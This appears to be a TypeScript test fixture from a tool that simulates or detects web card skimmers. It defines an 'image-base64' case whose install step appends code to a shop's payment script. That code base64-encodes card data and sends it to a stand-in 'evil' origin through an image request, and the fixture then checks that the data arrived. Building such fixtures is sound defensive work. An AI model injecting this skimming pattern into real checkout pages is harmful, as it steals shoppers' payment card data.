import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'image-base64',
  why: "The commonest encoding seen (23 of 88 samples): base64 in the address of a picture, appended to the shop's own payment script.",
  covers: ['injection: first-party library', 'encoding: base64', 'sending: image'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`new Image().src = '${site.origins.evil}/pixel.png?d=' + encodeURIComponent(btoa(card()));`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
